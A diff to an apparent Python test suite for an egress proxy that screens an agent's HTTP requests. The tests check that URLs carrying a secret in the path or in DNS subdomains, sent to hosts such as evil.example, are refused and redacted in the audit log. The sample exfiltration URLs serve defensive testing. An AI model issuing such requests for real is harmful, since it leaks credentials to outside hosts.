@@ -363,7 +363,8 @@ class ProxyAttackTests(ServerTestCase):
     def test_secret_in_a_refused_url_is_not_written_to_the_audit_log(self):
         urls = ["http://evil.example/" + SECRET, f"{self.base}/p/{SECRET}?q={SECRET}#{SECRET}",
                 f"{self.base}/p/{MIXED}", f"http://{SECRET}.allowed.example/",
-                f"http://{MIXED}.allowed.example/", f"http://evil.example/{SECRET}:{SECRET}"]
+                f"http://{MIXED}.allowed.example/", f"http://evil.example/{SECRET}:{SECRET}",
+                f"http://{MIXED.lower()}.allowed.example/"]
         for url in urls:
             with self.subTest(url=url):
                 out = self.call("http_request", {"url": url})
@@ -372,7 +373,7 @@ class ProxyAttackTests(ServerTestCase):
         self.assertIn("error", out)
         lines, blob = self.proxy_audit()
         self.assertGreaterEqual(len(lines), len(urls))
-        for secret in (SECRET, MIXED):
+        for secret in (SECRET, MIXED, MIXED.lower()):
             self.assertNotIn(secret.encode(), blob)
         self.assertIn(b"[REDACTED]", blob)
 
@@ -381,13 +382,15 @@ class ProxyAttackTests(ServerTestCase):
         # reach a DNS server; it is refused as a leak instead (a lookup
         # would have failed with "cannot resolve": these machines have no
         # DNS for that name).
-        for host in (f"{SECRET}.allowed.example", f"{MIXED}.allowed.example",
-                     f"x.{SECRET.upper()}.allowed.example"):
+        hosts = (f"{SECRET}.allowed.example", f"{MIXED}.allowed.example",
+                 f"x.{SECRET.upper()}.allowed.example", f"{MIXED.lower()}.allowed.example")
+        for host in hosts:
             with self.subTest(host=host):
                 out = self.call("http_request", {"url": f"http://{host}/"})
                 self.assertIn("contains a credential", out.get("error", ""), out)
         lines, _ = self.proxy_audit()
-        self.assertEqual([x["decision"] for x in lines[-3:]], ["leak_blocked"] * 3)
+        self.assertEqual([x["decision"] for x in lines[-len(hosts):]],
+                         ["leak_blocked"] * len(hosts))
         self.assert_healthy()
 
     def test_wildcard_on_a_public_suffix_is_refused(self):
